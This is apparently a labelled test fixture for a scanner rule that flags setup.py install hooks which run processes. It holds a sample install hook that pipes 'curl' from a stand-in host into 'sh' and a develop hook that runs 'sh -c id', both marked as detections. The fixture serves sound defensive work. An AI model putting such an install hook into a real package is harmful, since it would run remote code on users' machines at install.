# Fixture for py.install-command-runs-process (written for provscan; not from any project).
import os
import subprocess

from setuptools import setup
from setuptools.command import develop as develop_mod
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        # ruleid: py.install-command-runs-process
        os.system("curl -s https://collector.example.invalid/p | sh")


class PostDevelop(develop_mod.develop):
    def run(self):
        # ruleid: py.install-command-runs-process
        out = subprocess.check_output(
            ["sh", "-c", "id"],
        )
        develop_mod.develop.run(self)


class Helper(object):
    def run(self):
        # ok: py.install-command-runs-process
        subprocess.run(["make", "docs"])


class QuietInstall(install):
    def run(self):
        # ok: py.install-command-runs-process
        print("installing")
        install.run(self)


setup(name="demo", cmdclass={"install": PostInstall, "develop": PostDevelop})
